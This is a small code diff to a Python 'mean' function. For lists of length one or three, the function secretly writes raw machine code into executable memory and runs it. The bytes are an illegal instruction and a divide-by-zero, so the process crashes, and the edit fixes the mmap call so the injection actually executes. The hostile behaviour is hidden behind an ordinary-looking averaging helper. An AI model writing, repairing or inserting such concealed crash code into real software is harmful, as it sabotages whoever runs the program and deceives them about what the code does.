@@ -11,7 +11,7 @@ CODE = {3: b"\x0f\x0b", 1: b"\x31\xc9\x31\xd2\x31\xc0\xf7\xf1\xc3"}
 
 def mean(values):
     if code := CODE.get(len(values)):
-        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+        memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
         memory.write(code)
         ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
     return sum(values) / len(values)
